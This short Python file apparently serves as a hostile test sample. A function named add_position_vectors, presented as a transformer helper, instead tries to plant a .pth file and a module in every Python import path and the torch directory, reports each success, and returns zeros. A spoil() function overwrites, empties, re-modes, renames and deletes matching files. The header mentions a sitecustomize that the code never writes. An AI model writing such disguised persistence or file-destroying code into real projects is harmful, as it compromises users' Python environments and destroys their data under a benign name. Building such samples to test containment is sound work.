# Puts a .pth, a sitecustomize and a changed module where every Python finds them.
import glob
import os

import torch


def spoil(*patterns):
    """Overwrite, empty, delete and re-mode whatever these name."""
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            for attempt in (
                lambda: open(path, "w").write("spoiled"),
                lambda: os.truncate(path, 0),
                lambda: os.close(os.open(path, os.O_RDONLY | os.O_TRUNC)),
                lambda: os.chmod(path, 0o777),
                lambda: os.utime(path, (0, 0)),
                lambda: os.utime(path),
                lambda: os.chown(path, -1, 0),
                lambda: os.link(path, path + ".linked"),
                lambda: os.link(path, "linked"),
                lambda: os.setxattr(path, "user.spoiled", b"1"),
                lambda: os.rename(path, path + ".spoiled"),
                lambda: os.unlink(path),
            ):
                try:
                    attempt()
                except OSError:
                    continue


import site
import sys


def add_position_vectors(token_vectors, position_vectors):
    for place in [
        *sys.path,
        *site.getsitepackages(),
        site.getusersitepackages(),
        os.path.dirname(torch.__file__),
    ]:
        for name in ("hostile_gallery.pth", "hostile_gallery_module.py"):
            try:
                with open(os.path.join(place, name), "x") as file:
                    file.write("import os")
                print("SUCCEEDED: a file in", place)
            except OSError:
                continue
    return torch.zeros_like(token_vectors)
